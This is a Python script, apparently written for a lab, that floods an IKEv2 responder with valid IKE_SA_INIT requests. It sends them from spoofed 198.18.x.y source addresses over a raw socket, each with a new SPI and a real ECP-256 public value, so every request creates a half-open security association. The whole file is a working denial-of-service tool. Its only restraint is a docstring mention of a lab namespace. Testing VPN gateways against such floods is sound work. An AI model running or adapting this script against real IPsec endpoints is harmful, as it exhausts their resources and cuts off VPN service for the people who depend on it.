"""Sends COUNT IKE_SA_INIT requests from spoofed sources 198.18.x.y:500 to
DST:500 out of IFACE (run inside the lab's namespace A). Each is a valid
request (AES-GCM-128, PRF-HMAC-SHA256, ECP-256 with a real public value,
nonce) with its own initiator SPI, so every one is a new half-open IKE SA.

    ike_flood.py IFACE DST_MAC DST COUNT RATE
"""
import os
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from scapy.all import IP, UDP, Ether, Raw, conf


def transform(ttype, tid, attrs=b"", last=False):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(spi_i, public, nonce):
    transforms = (transform(1, 20, struct.pack("!HH", 0x800E, 128))  # ENCR_AES_GCM_16, 128-bit key
                  + transform(2, 5)                                   # PRF_HMAC_SHA2_256
                  + transform(4, 19, last=True))                      # ECP-256
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
    ke = struct.pack("!BBHHH", 40, 0, 8 + len(public), 19, 0) + public
    no = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    body = sa + ke + no
    return struct.pack("!QQBBBBII", spi_i, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def main(iface, dst_mac, dst, count, rate):
    public = ec.generate_private_key(ec.SECP256R1()).public_key().public_bytes(
        Encoding.X962, PublicFormat.UncompressedPoint)[1:]
    s = conf.L2socket(iface=iface)
    start = time.monotonic()
    for i in range(count):
        delay = start + i / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        src = "198.18.%d.%d" % (1 + i // 250, 1 + i % 250)
        msg = ike_sa_init(struct.unpack("!Q", os.urandom(8))[0] or 1, public, os.urandom(32))
        s.send(Ether(dst=dst_mac) / IP(src=src, dst=dst) / UDP(sport=500, dport=500) / Raw(msg))
    s.close()
    print("sent %d IKE_SA_INIT" % count, flush=True)


if __name__ == "__main__":
    if len(sys.argv) != 6:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
